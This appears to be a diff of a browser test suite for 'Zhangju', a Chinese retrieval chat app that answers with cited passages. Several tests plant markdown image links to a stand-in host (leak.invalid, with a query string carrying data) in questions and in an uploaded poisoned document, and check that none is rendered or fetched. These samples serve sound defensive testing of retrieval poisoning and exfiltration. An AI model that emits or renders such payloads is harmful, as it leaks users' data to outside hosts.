@@ -1,15 +1,25 @@
+import json
 import os
 import re
 import shutil
 from importlib.util import find_spec
+from itertools import pairwise
 from pathlib import Path
+from urllib.parse import parse_qs
 
 import pytest
 
 from guarded_chat import serving
+from handmade import POISON
+from zhangju_eval import load_set
+from zhangju_index.parsing import bundled_article
+from zhangju_ui.strings import EXAMPLES, say
 
 CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
-WAIT_MS = 30_000
+AXE = Path(
+    os.environ.get("ZHANGJU_AXE") or Path(__file__).parents[1] / "build/axe/node_modules/axe-core/axe.min.js"
+)
+WAIT_MS = 60_000
 SIZES = {"desktop": (1440, 900), "laptop": (1024, 768), "phone": (390, 844)}
 
 pytestmark = [
@@ -24,29 +34,10 @@ pytestmark = [
     pytest.mark.skipif(find_spec("gradio") is None, reason="the chat page needs pip install 'zhangju[chat]'"),
 ]
 
-
-@pytest.fixture(scope="module")
-def assistant():
-    """What answers the questions below, as ``module:callable``."""
-    return "handmade:HandmadeAssistant"
-
-
-@pytest.fixture(scope="module")
-def questions():
-    """One question that the assistant answers, one in English, and one that it refuses."""
-    return {
-        "answered": ("武进重点布局哪些未来产业？", "合成生物、氢能和新型储能"),
-        "again": ("创新的主体和核心分别是什么？", "创新的核心是人才。"),
-        "english": ("Which future industries is Wujin focusing on?", "合成生物、氢能和新型储能"),
-        "refused": "武进区的平均房价是多少？",
-    }
-
-
-@pytest.fixture(scope="module")
-def served(assistant):
-    """The page, served under a guard around its sockets."""
-    with serving(assistant) as served:
-        yield served
+FUTURE = "武进重点布局哪些未来产业？"
+PARTS = "创新的主体、载体和核心分别是什么？"
+ELSEWHERE = "附近有什么好吃的餐厅？"
+BOX = "#zj-question textarea"
 
 
 @pytest.fixture(scope="module")
@@ -68,10 +59,10 @@ def chromium():
         browser.close()
 
 
-@pytest.fixture
-def shot(tmp_path):
-    """Save a screenshot under a name, in ``ZHANGJU_SCREENSHOTS`` when that is set."""
-    folder = Path(os.environ.get("ZHANGJU_SCREENSHOTS") or tmp_path)
+@pytest.fixture(scope="module")
+def shot():
+    """Save a screenshot under a name, as an artefact of the run."""
+    folder = Path(os.environ.get("ZHANGJU_SCREENSHOTS") or Path(__file__).parents[1] / "screenshots")
     folder.mkdir(parents=True, exist_ok=True)
 
     def save(tab, name):
@@ -83,147 +74,273 @@ def shot(tmp_path):
 
 @pytest.fixture
 def visit(chromium, served):
-    """Open the page as a visitor; at the end, no request may have left the machine."""
-    contexts, requests = [], []
+    """Open the page as a visitor; at the end, no request may have left the machine and no script failed."""
+    contexts, requests, errors = [], [], []
 
-    def open_page(locale="zh-CN", size="desktop", scheme="light"):
+    def open_page(locale="zh-CN", size="desktop", scheme="light", address=served.address, **more):
         width, height = SIZES[size]
         context = chromium.new_context(
             viewport={"width": width, "height": height},
             locale=locale,
             color_scheme=scheme,
             permissions=["clipboard-read", "clipboard-write"],
+            **more,
         )
         contexts.append(context)
         tab = context.new_page()
         tab.set_default_timeout(WAIT_MS)
         tab.on("request", lambda request: requests.append(request.url))
-        tab.goto(served.address)
-        tab.wait_for_selector("#zj-question textarea")
-        tab.wait_for_selector(".zj-header")
+        tab.on("pageerror", lambda error: errors.append(str(error)))
+        tab.goto(address)
+        tab.wait_for_selector(".zj-document", state="attached")
+        tab.wait_for_selector(".zj-welcome", state="attached")
         return tab
 
     open_page.refused = set()  # addresses that a test makes the browser refuse
     yield open_page
     for context in contexts:
         context.close()
-    outside = [url for url in requests if not url.startswith((served.address, "data:", "blob:"))]
+    outside = [url for url in requests if not re.match(r"http://127\.0\.0\.1:\d+/|data:|blob:", url)]
     assert set(outside) == open_page.refused
     assert served.attempts == []
+    assert errors == []
 
 
 def ask(tab, question):
     """Send a question and wait for the whole answer; return its message."""
+    tab.fill(BOX, question)
     answers = tab.locator(".bot-row").count()
-    tab.fill("#zj-question textarea", question)
-    tab.press("#zj-question textarea", "Enter")
+    tab.press(BOX, "Enter")
     return finished(tab, answers)
 
 
 def finished(tab, answers):
     """Wait until one more answer stands complete."""
     message = tab.locator(".bot-row").nth(answers)
-    message.locator(".zj-foot, .zj-status-failed").wait_for()
-    tab.wait_for_selector("#zj-question .submit-button")
+    message.locator(".zj-foot, .zj-status-failed").first.wait_for()
+    tab.wait_for_selector("#zj-question .submit-button", state="attached")
     return message
 
 
-def test_a_question_in_chinese_is_answered_with_its_source(visit, questions, shot):
-    """Asked in Chinese, the page answers, and a citation opens the card with the quoted words."""
+def squeezed(text):
+    """Text without its white space: line wraps are joined where it is read."""
+    return "".join(text.split())
+
+
+def opened(tab, link):
+    """Follow a citation; return the place it names and the words that are then marked in the source."""
+    place = {name: value for name, [value] in parse_qs(link.get_attribute("href")[4:]).items()}
+    start, end = map(int, place["quote"].split("-"))
+    link.click()
+    tab.wait_for_selector(f'#zj-source-body mark[data-start="{start}"]')
+    marks = tab.locator("#zj-source-body mark")
+    tab.wait_for_function(
+        """() => {
+            const body = document.querySelector("#zj-source-body").getBoundingClientRect();
+            const mark = document.querySelector("#zj-source-body mark").getBoundingClientRect();
+            return mark.top >= body.top && mark.top < body.bottom;
+        }"""
+    )
+    return (start, end), squeezed("".join(marks.all_inner_texts()))
+
+
+def test_every_claim_is_one_click_away(visit, shot):
+    """Each marker scrolls the source to its words and marks exactly them; hovering tells where they stand."""
     tab = visit()
     assert tab.title() == "章句 Zhangju"
-    shot(tab, "empty-zh")
-    question, expected = questions["answered"]
-    message = ask(tab, question)
-    assert expected in message.inner_text()
-    assert re.search(r"\[1\]", message.inner_text())
-    shot(tab, "answer-zh")
-
-    message.locator("a.zj-cite").first.click()
-    card = tab.locator("#zj-1-1")
-    assert "zj-current" in card.get_attribute("class")
-    marked = "".join(card.locator(".zj-short mark, p.zj-text:not(.zj-whole) mark").all_inner_texts())
-    assert expected in marked
-    assert card.locator(".zj-heading").inner_text().strip()
-    assert re.search(r"\d+–\d+", card.locator(".zj-where").inner_text())
-    shot(tab, "citation-zh")
-
-    if card.locator("details.zj-passage").count():
-        card.locator("summary").click()
-        whole = card.locator(".zj-whole")
-        assert whole.is_visible()
-        assert "".join(whole.locator("mark").all_inner_texts()) == marked
-
-
-def test_every_citation_of_every_turn_keeps_its_card(visit, questions):
-    """After a second question, the first answer's markers still lead to their own cards."""
-    tab = visit()
-    for key in ("answered", "again"):
-        question, expected = questions[key]
+    shot(tab, "empty")
+    text = bundled_article().text
+    for question, expected in ((FUTURE, "合成生物、氢能和新型储能"), (PARTS, "创新的核心是人才。")):
         assert expected in ask(tab, question).inner_text()
-    for link in tab.locator("a.zj-cite").all():
-        link.click()
-        card = tab.locator(link.get_attribute("href"))
-        card.wait_for(state="visible")
-        assert "zj-current" in card.get_attribute("class")
-        assert tab.locator(".zj-current").count() == 1
+    shot(tab, "answer")
+    links = tab.locator("a.zj-cite")
+    assert links.count() >= 3
+    for link in [*links.all(), *tab.locator("a.zj-note").all()]:
+        (start, end), marked = opened(tab, link)
+        assert marked == squeezed(text[start:end])
+    link = links.last
+    link.hover()
+    tip = tab.locator("#zj-tip")
+    tip.wait_for()
+    assert tip.locator("strong").inner_text().strip()
+    assert squeezed(tip.locator("span").inner_text()) in squeezed(text)
+    assert link.get_attribute("aria-describedby") == "zj-tip"
+    shot(tab, "citation")
+    tab.keyboard.press("Escape")
+    assert tip.is_hidden()
+    assert "创新" in tab.locator(".zj-article").inner_text()
+    assert len(squeezed(tab.locator(".zj-article").inner_text())) == len(squeezed(text))
 
 
-@pytest.mark.parametrize("locale", ["zh-CN", "en-US"])
-def test_what_the_article_does_not_say_is_said(visit, questions, shot, locale):
-    """A refusal looks like one and shows the closest passages."""
-    tab = visit(locale)
-    message = ask(tab, questions["refused"])
-    assert message.locator(".zj-status-refused").is_visible()
-    assert message.locator("a.zj-cite").count() == 0
-    assert tab.locator(".zj-closest").is_visible()
-    assert tab.locator(".zj-card").count() >= 1
-    shot(tab, f"refusal-{locale[:2]}")
+def test_the_outline_leads_and_limits(visit, shot):
+    """A section scrolls the source, can be the only one asked, and a selection becomes a question."""
+    tab = visit()
+    section = tab.locator(".zj-section").filter(has_text="布局未来产业")
+    section.locator(".zj-open").click()
+    heading = tab.locator(f"#zj-at-{section.locator('.zj-open').get_attribute('data-at')}")
+    heading.wait_for()
+    assert heading.inner_text().startswith("布局未来产业")
+    section.hover()
+    section.locator(".zj-limit").click()
+    assert "布局未来产业" in tab.locator(".zj-limited").inner_text()
+    message = ask(tab, "重点产业有哪些？")
+    assert "布局未来产业" in tab.locator(".user-row .zj-scoped").inner_text()
+    places = message.locator("a[href^='#zj?']").evaluate_all("all => all.map(a => a.getAttribute('href'))")
+    assert places
+    start = bundled_article().text.index("布局未来产业,赋能")
+    end = bundled_article().text.index("创新应用场景,助推")
+    for place in places:
+        quoted = int(parse_qs(place[4:])["quote"][0].split("-")[0])
+        assert start <= quoted < end
+    shot(tab, "limited")
+    tab.locator(".zj-unlimit").click()
+    assert tab.locator(".zj-limited").is_hidden()
+
+    paragraph = tab.locator(".zj-article .zj-text").nth(4)
+    paragraph.click(click_count=3)
+    tab.locator(".zj-selected").click()
+    drafted = tab.input_value(BOX)
+    assert drafted.endswith("是什么意思？")
+    assert squeezed(drafted)[1:20] in squeezed(bundled_article().text)
+
+
+def test_a_conversation_goes_on_and_is_kept(visit, served, shot):
+    """Retry, edit, copy, reload, another conversation and back, export, delete: nothing is mixed up."""
+    tab = visit()
+    ask(tab, FUTURE)
+    second = ask(tab, "2024年武进的平均房价是多少？")
+    second.locator(".zj-retry").click()
+    tab.wait_for_selector(".zj-status-pending", state="attached", timeout=5000)
+    finished(tab, 1)
+    assert tab.locator(".user-row").count() == 2
+    tab.locator(".bot-row").nth(1).locator(".zj-edit").click()
+    assert tab.input_value(BOX) == "2024年武进的平均房价是多少？"
+    assert tab.locator(".zj-editing").is_visible()
+    tab.fill(BOX, PARTS)
+    tab.press(BOX, "Enter")
+    tab.locator(".user-row", has_text=PARTS).wait_for()
+    edited = finished(tab, 1)
+    assert tab.locator(".zj-editing").is_hidden()
+    assert tab.locator(".user-row").all_inner_texts() == [FUTURE, PARTS]
+
+    edited.locator(".zj-copy").click()
+    tab.wait_for_selector(".zj-copy[data-done]")
+    copied = tab.evaluate("() => navigator.clipboard.readText()")
+    assert "创新的核心是人才。" in copied
+    assert re.search(r"^\[1\] .*第 \d+–\d+ 字", copied, re.MULTILINE)
+    assert "&#" not in copied
+
+    exported = {}
+    for link in tab.locator(".zj-export a").all():
+        with tab.expect_download() as download:
+            link.click()
+        exported[download.value.suggested_filename.rpartition(".")[2]] = download.value.path().read_text(
+            "utf-8"
+        )
+    turns = json.loads(exported["json"])["turns"]
+    assert [turn["question"] for turn in turns] == [FUTURE, PARTS]
+    text = bundled_article().text
+    for citation in (citation for turn in turns for citation in turn["answer"]["citations"]):
+        assert text[citation["start"] : citation["end"]] == citation["quote"]
+        assert f"{citation['start']}–{citation['end']}" in exported["md"]
+
+    tab.reload()
+    tab.locator(".user-row").nth(1).wait_for()
+    assert tab.locator(".user-row").all_inner_texts() == [FUTURE, PARTS]
+    opened(tab, tab.locator("a.zj-cite").first)
+    tab.locator(".zj-new").click()
+    tab.locator(".zj-welcome").wait_for()
+    ask(tab, ELSEWHERE)
+    tab.locator(".zj-conversation", has_text=FUTURE).first.click()
+    tab.locator(".user-row", has_text=PARTS).wait_for()
+    assert tab.locator(".user-row").count() == 2
+    shot(tab, "conversations")
+    with serving(served.data.parent) as again:
+        later = visit(address=again.address)
+        later.locator(".zj-conversation", has_text=FUTURE).first.click()
+        later.locator(".user-row", has_text=PARTS).wait_for()
+        assert again.attempts == []
+    before = tab.locator(".zj-conversation").count()
+    tab.locator(".zj-conversations li").first.hover()
+    tab.locator(".zj-delete").first.click()
+    tab.locator("#zj-sure .zj-primary").click()
+    tab.wait_for_function(f"() => document.querySelectorAll('.zj-conversation').length === {before - 1}")
+
+
+def test_stopping_and_asking_on(visit):
+    """Stop leaves the question; a suggestion, an example and a double click each ask once."""
+    tab = visit()
+    tab.fill(BOX, FUTURE)
+    tab.press(BOX, "Enter")
+    tab.locator("#zj-question .stop-button").click()
+    tab.locator(".zj-status-stopped, .zj-status-answered").wait_for()
+    tab.wait_for_selector("#zj-question .submit-button")
+    tab.locator(".zj-retry").click()
+    message = finished(tab, 0)
+    message.locator(".zj-cite").first.wait_for()
+    suggested = tab.locator(".zj-next .zj-ask").first.inner_text()
+    tab.locator(".zj-next .zj-ask").first.click()
+    finished(tab, 1)
+    assert tab.locator(".user-row").nth(1).inner_text() == suggested
+    tab.locator(".zj-new").click()
+    example = tab.locator(".zj-example").nth(1)
+    example.evaluate("button => { button.click(); button.click(); button.click(); }")
+    finished(tab, 0)
+    tab.wait_for_timeout(800)
+    assert tab.locator(".user-row").all_inner_texts() == [EXAMPLES["zh-Hans"][1]]
 
 
 @pytest.mark.parametrize(
-    ("locale", "word"), [("zh-CN", "出处"), ("zh-TW", "出处"), ("en-GB", "Sources"), ("de", "Sources")]
+    ("locale", "language"), [("zh-CN", "zh-Hans"), ("zh-TW", "zh-Hant"), ("en-US", "en")]
 )
-def test_the_browser_chooses_the_language(visit, locale, word):
-    """The page's own words, its examples and its question box follow the browser's language."""
+def test_what_the_article_does_not_say_is_said(visit, shot, locale, language):
+    """A refusal looks like one, in the visitor's language, and its closest passages open in the source."""
     tab = visit(locale)
-    assert tab.locator(".zj-panel-title").inner_text() == word
-    assert tab.get_attribute("#zj-question textarea", "placeholder").startswith(
-        "就文章" if word == "出处" else "Ask"
-    )
-    shown = tab.locator(".example:visible").all_inner_texts()
-    assert len(shown) == 4
-    assert all(text.isascii() == (word == "Sources") for text in shown)
+    message = ask(tab, ELSEWHERE)
+    assert message.locator(".zj-status-refused").inner_text() == say("refused", language)
+    assert message.locator("a.zj-cite").count() == 0
+    assert message.locator(".zj-card").count() >= 3
+    (start, end), marked = opened(tab, message.locator(".zj-card a").first)
+    assert marked == squeezed(bundled_article().text[start:end])
+    shot(tab, f"refusal-{language}")
 
 
-def test_an_example_asks_itself(visit):
-    """One click on an example is a question."""
+def test_the_language_is_chosen(visit, shot):
+    """The browser's language comes first; the switch changes all words and stays."""
+    tab = visit("de")
+    assert tab.get_attribute(BOX, "placeholder") == say("placeholder", "en")
+    for language in ("zh-Hant", "zh-Hans", "en", "zh-Hant"):
+        tab.select_option(".zj-language", language)
+        tab.wait_for_function(
+            "words => document.querySelector('#zj-question textarea')?.placeholder === words",
+            arg=say("placeholder", language),
+        )
+        tab.locator(".zj-welcome h2", has_text=say("welcome", language)).wait_for()
+        assert tab.locator(".zj-example").all_inner_texts() == list(EXAMPLES[language])
+        assert say("conversations", language) in tab.locator("#zj-library").inner_text()
+        assert tab.locator(".zj-language").input_value() == language
+    shot(tab, "traditional")
+
+
+def test_votes_are_kept_as_questions(visit, served):
+    """Thumbs and a comment land in a file that the evaluation reads; a second click takes them back."""
     tab = visit()
-    tab.locator(".example:visible").first.click()
-    assert finished(tab, 0).inner_text()
-
-
-def test_a_planted_image_is_never_fetched(visit, assistant, shot):
-    """Markup in a source or a question shows as text; the browser requests none of it."""
-    if not assistant.startswith("handmade"):
-        pytest.skip("the handmade assistant holds the poisoned source")
-    tab = visit()
-    question = "poison <img src=http://leak.invalid/u.png> ![a](http://leak.invalid/v.png) **b**"
-    message = ask(tab, question)
+    message = ask(tab, PARTS)
+    message.locator(".zj-vote").first.click()
+    tab.fill("#zj-comment textarea", "三处都对")
+    tab.locator("#zj-comment .zj-primary").click()
+    file = served.data / "feedback.jsonl"
     tab.wait_for_timeout(500)
-    assert tab.locator(".user-row").inner_text() == question
-    assert "![x](http://leak.invalid/a.png?q=secret)" in message.inner_text()
-    assert "U+202E" in tab.locator("#zj-1-1").inner_text()
-    made = tab.locator(
-        ":is(#zj-chatbot .message-content, #zj-panel .prose) :is(img, script, style, code, strong)"
-    )
-    assert made.count() == 0
-    assert tab.evaluate("window.pwned") is None
-    links = tab.locator("#zj-chatbot a, #zj-panel a").evaluate_all(
-        "all => all.map(a => a.getAttribute('href'))"
-    )
-    assert all(link.startswith("#zj-") for link in links)
-    shot(tab, "poison")
+    [question] = load_set(file, {bundled_article().id: bundled_article().text}).questions
+    assert question.question == PARTS
+    assert len(question.gold) >= 3
+    assert json.loads(file.read_text("utf-8"))["feedback"]["comment"] == "三处都对"
+    tab.reload()
+    pressed = tab.locator(".zj-vote[aria-pressed=true]")
+    pressed.wait_for()
+    pressed.click()
+    tab.wait_for_selector(".zj-vote.zj-pressed", state="detached")
+    assert not file.read_text("utf-8").strip()
 
 
 def test_the_policy_stops_what_the_markup_would_fetch(visit):
@@ -244,98 +361,193 @@ def test_the_policy_stops_what_the_markup_would_fetch(visit):
     assert failures == [("http://leak.invalid/forced.png", "csp")]
 
 
-def test_stop_retry_undo_and_clear(visit, questions):
-    """The buttons keep conversation and sources together."""
-    tab = visit()
-    ask(tab, questions["answered"][0])
-    ask(tab, questions["refused"])
-    retry, undo = (tab.locator(".message-buttons button").nth(n) for n in (0, 1))
-    retry.click()
-    tab.wait_for_timeout(200)
-    finished(tab, 1)
-    assert tab.locator(".zj-turn").count() == tab.locator(".user-row").count() == 2
-    undo.click()
-    tab.wait_for_function("() => document.querySelectorAll('.zj-turn').length === 1")
-    assert tab.locator(".user-row").count() == 1
-    tab.locator("#zj-chatbot .top-panel button").click()
-    tab.locator(".zj-empty").wait_for()
-    assert tab.locator(".user-row").count() == 0
-
-    tab.fill("#zj-question textarea", questions["answered"][0])
-    tab.press("#zj-question textarea", "Enter")
-    tab.locator("#zj-question .stop-button").click()
-    tab.wait_for_selector("#zj-question .submit-button")
-    assert questions["again"][1] in ask(tab, questions["again"][0]).inner_text()
-
-
-def test_bad_questions_are_answered_in_words(visit, shot):
-    """An empty and an endless question get a sentence; the next question works."""
+def test_bad_questions_are_answered_in_words(visit):
+    """An empty and an endless question get a sentence; markup in a question is text; the next one works."""
     tab = visit()
     for question in ("   ", "问" * 100_000):
         message = ask(tab, question)
         assert message.locator(".zj-status-failed").is_visible()
         assert "Traceback" not in message.inner_text()
     assert tab.locator(".user-row").last.bounding_box()["height"] < 400
-    shot(tab, "errors")
+    typed = "<img src=http://leak.invalid/u.png> ![a](http://leak.invalid/v.png) **创新的核心** $x$"
+    ask(tab, typed)
+    assert tab.locator(".user-row").last.inner_text() == typed
+    assert tab.locator("#zj-chatbot .message-content :is(img, strong, script)").count() == 0
 
 
-def test_a_double_submit_asks_once(visit, questions):
-    """Three quick clicks are one question."""
+def test_the_keyboard_alone_does_everything(visit, shot):
+    """Ask, take a line break, follow a citation, come back, and open a section: no mouse at all."""
     tab = visit()
-    tab.fill("#zj-question textarea", questions["answered"][0])
-    tab.evaluate(
-        "() => { const b = document.querySelector('#zj-question .submit-button'); b.click(); b.click(); b.click(); }"
-    )
+    tab.wait_for_function("() => document.activeElement.matches('#zj-question textarea')")
+    tab.keyboard.type("创新的主体、载体")
+    tab.keyboard.press("Shift+Enter")
+    tab.keyboard.type("和核心分别是什么？")
+    assert "\n" in tab.input_value(BOX)
+    tab.keyboard.press("Enter")
     finished(tab, 0)
-    tab.wait_for_timeout(1000)
-    assert tab.locator(".user-row").count() == 1
+
+    def press_until(selector, key="Tab"):
+        for _ in range(120):
+            tab.keyboard.press(key)
+            if tab.evaluate("selector => document.activeElement.matches(selector)", selector):
+                return
+        pytest.fail(f"{selector} is not reached by {key}")
+
+    tab.locator(BOX).focus()
+    press_until("a.zj-cite", "Shift+Tab")
+    tab.locator("#zj-tip").wait_for()
+    numbers = [tab.evaluate("() => document.activeElement.textContent")]
+    for _ in range(20):
+        tab.keyboard.press("Shift+Tab")
+        if not tab.evaluate("() => document.activeElement.matches('a.zj-cite')"):
+            break
+        numbers.append(tab.evaluate("() => document.activeElement.textContent"))
+    assert numbers == sorted(numbers, reverse=True)
+    press_until("a.zj-cite")
+    outline = tab.evaluate("() => getComputedStyle(document.activeElement).outlineStyle")
+    assert outline != "none"
+    tab.keyboard.press("Enter")
+    tab.wait_for_selector("#zj-source-body mark")
+    assert tab.evaluate("() => document.querySelector('#zj-source').contains(document.activeElement)")
+    tab.keyboard.press("Escape")
+    assert tab.evaluate("() => document.activeElement.matches('a.zj-cite')")
+    tab.locator(".zj-new").focus()
+    press_until(".zj-section .zj-open")
+    tab.keyboard.press("Enter")
+    tab.wait_for_function("() => document.activeElement.closest('.zj-article') !== null")
 
 
-def test_copying_keeps_the_citations(visit, questions):
-    """The copy button gives the words with their markers and a list of the sources."""
-    tab = visit()
-    message = ask(tab, questions["answered"][0])
-    message.locator(".zj-copy").click()
-    tab.wait_for_function("() => document.querySelector('.zj-copy').textContent === '已复制'")
-    copied = tab.evaluate("() => navigator.clipboard.readText()")
-    assert questions["answered"][1] in copied
-    assert re.search(r"\[1\]$", copied, re.MULTILINE)
-    assert re.search(r"^\[1\] \S", copied, re.MULTILINE)
-    assert "&#" not in copied
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_axe_finds_nothing_serious(visit, scheme):
+    """Names, roles and contrast hold in both lights, with an answer, a source and a refusal on the page."""
+    if not AXE.exists():
+        pytest.skip(f"axe-core is not at {AXE}: npm install --prefix build/axe axe-core")
+    tab = visit("en-US", scheme=scheme, bypass_csp=True)
+    ask(tab, PARTS)
+    ask(tab, ELSEWHERE)
+    opened(tab, tab.locator("a.zj-cite").first)
+    tab.wait_for_timeout(2000)
+    tab.add_script_tag(path=AXE)
+    found = tab.evaluate("() => axe.run(document, { resultTypes: ['violations'] })")
+    serious = {
+        violation["id"]: [
+            (node["html"][:150], node["failureSummary"][:250]) for node in violation["nodes"][:6]
+        ]
+        for violation in found["violations"]
+        if violation["impact"] in {"serious", "critical"}
+    }
+    assert serious == {}
 
 
 @pytest.mark.parametrize("size", SIZES)
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_the_page_fits_the_window(visit, questions, shot, size, scheme):
-    """Nothing sticks out sideways; on a phone the sources stand under the conversation."""
-    tab = visit("en-US", size, scheme)
+def test_the_page_fits_the_window(visit, shot, size, scheme):
+    """Three panes side by side, or tabs on a phone; nothing sticks out, and a citation is seen at once."""
+    tab = visit("zh-CN", size, scheme)
     shot(tab, f"{size}-{scheme}-empty")
-    message = ask(tab, questions["english"][0])
+    message = ask(tab, PARTS)
     shot(tab, f"{size}-{scheme}-answer")
-    message.locator("a.zj-cite").first.click()
-    shot(tab, f"{size}-{scheme}-citation")
+    opened(tab, message.locator("a.zj-cite").first)
+    shot(tab, f"{size}-{scheme}-source")
     assert tab.evaluate("() => document.documentElement.scrollWidth <= window.innerWidth")
-    assert tab.locator("#zj-1-1").evaluate("card => card.getBoundingClientRect().top < window.innerHeight")
-    chat, sources = (tab.locator(part).bounding_box() for part in ("#zj-chat", "#zj-sources"))
+    panes = [tab.locator(part) for part in ("#zj-library", "#zj-chat", "#zj-source")]
     if size == "phone":
-        assert sources["y"] >= chat["y"] + chat["height"] - 1
+        assert [pane.is_visible() for pane in panes] == [False, False, True]
+        tab.locator(".zj-pane-tab[data-pane=library]").click()
+        shot(tab, f"{size}-{scheme}-library")
+        assert [pane.is_visible() for pane in panes] == [True, False, False]
+        tab.locator(".zj-pane-tab[data-pane=chat]").click()
+        assert message.is_visible()
     else:
-        assert sources["x"] >= chat["x"] + chat["width"] - 1
+        boxes = [pane.bounding_box() for pane in panes]
+        assert all(a["x"] + a["width"] <= b["x"] + 1 for a, b in pairwise(boxes))
+        assert all(box["y"] + box["height"] <= SIZES[size][1] + 1 for box in boxes)
+    assert message.locator("p.zj-line").first.evaluate("p => getComputedStyle(p).lineHeight") >= "26px"
 
 
-def test_the_answer_does_not_move_what_was_read(visit, questions):
-    """While an answer streams, its first line stays where it appeared."""
+def test_nothing_moves_while_an_answer_grows(visit):
+    """While an answer streams, its first line stays where it appeared, and so do the panes."""
     tab = visit()
     tab.evaluate(
         """() => {
             window.tops = new Set();
+            const top = (selector) => Math.round(document.querySelector(selector).getBoundingClientRect().top);
             const look = () => {
-                const line = document.querySelector(".zj-status");
-                if (line) window.tops.add(Math.round(line.getBoundingClientRect().top));
+                if (document.querySelector(".zj-status:not(.zj-status-pending)")) {
+                    window.tops.add([".zj-status", "#zj-question", "#zj-documents"].map(top).join());
+                }
                 requestAnimationFrame(look);
             };
             look();
         }"""
     )
-    ask(tab, questions["answered"][0])
-    assert len(tab.evaluate("() => [...window.tops]")) == 1
+    ask(tab, FUTURE)
+    positions = [tuple(map(int, each.split(","))) for each in tab.evaluate("() => [...window.tops]")]
+    assert len({(status, box) for status, box, _ in positions}) == 1
+
+
+def test_reduced_motion_is_kept(visit):
+    """Who asks for less motion gets none: the source is simply there."""
+    tab = visit(reduced_motion="reduce")
+    message = ask(tab, FUTURE)
+    opened(tab, message.locator("a.zj-cite").first)
+    moving = tab.evaluate(
+        "() => document.getAnimations().filter((each) => each.playState === 'running').length"
+    )
+    assert moving == 0
+
+
+def test_articles_are_added_asked_and_removed(visit, tmp_path, shot):
+    """Dropped files show their outline first; what cannot be read is told; a planted one stays inert."""
+    law = tmp_path / "养猫条例.md"
+    law.write_text(
+        "# 养猫条例\n\n## 第一章 登记\n\n家猫须在满月后三十日内登记🐈。\n\n## 第二章 食物\n\n每日喂鱼两次。\n",
+        "utf-8",
+    )
+    planted = tmp_path / "poison.md"
+    planted.write_text(
+        POISON.text + "\n\n毒蘑菇的代号是 ![x](http://leak.invalid/q.png?s=1) 七号。\n", "utf-8"
+    )
+    broken = tmp_path / "broken.pdf"
+    broken.write_bytes(b"%PDF-1.7 nothing here")
+    tab = visit()
+    tab.set_input_files("#zj-drop input[type=file]", [law, planted, broken])
+    tab.locator(".zj-found").nth(1).wait_for()
+    preview = tab.locator("#zj-found")
+    assert "第二章 食物" in preview.inner_text()
+    assert "broken.pdf" in preview.locator(".zj-problem").inner_text()
+    assert str(tmp_path) not in preview.inner_text()
+    shot(tab, "preview")
+    assert tab.locator(".zj-document").count() == 1
+    tab.locator("#zj-confirm").click()
+    tab.locator(".zj-done").wait_for()
+    tab.wait_for_function("() => document.querySelectorAll('.zj-document').length === 3")
+    shot(tab, "added")
+
+    message = ask(tab, "家猫什么时候登记？")
+    assert "三十日内登记🐈" in message.inner_text()
+    (start, end), marked = opened(tab, message.locator("a.zj-cite").first)
+    assert marked == squeezed(law.read_text("utf-8")[start:end])
+    assert tab.locator("#zj-source-name").inner_text() == "养猫条例"
+    shot(tab, "own-article")
+
+    message = ask(tab, "毒蘑菇的代号是什么？")
+    opened(tab, message.locator("a[href^='#zj?']").first)
+    tab.wait_for_timeout(500)
+    inside = tab.locator(":is(#zj-chatbot .message-content, #zj-source-body) :is(img, script, style, code)")
+    assert inside.count() == 0
+    assert tab.evaluate("window.pwned") is None
+    links = tab.locator("#zj-chatbot a, #zj-source-body a").evaluate_all(
+        "all => all.map(a => a.getAttribute('href'))"
+    )
+    assert all(link.startswith("#zj?") for link in links)
+    shot(tab, "planted")
+
+    for left in (2, 1):
+        document = tab.locator(".zj-document").nth(left)
+        document.locator("summary").click()
+        document.locator(".zj-remove").click()
+        tab.locator("#zj-sure .zj-primary").click()
+        tab.wait_for_function(f"() => document.querySelectorAll('.zj-document').length === {left}")
+    message.locator("a[href^='#zj?']").first.click()
+    tab.locator("#zj-source-body", has_text=say("source_gone", "zh-Hans")).wait_for()
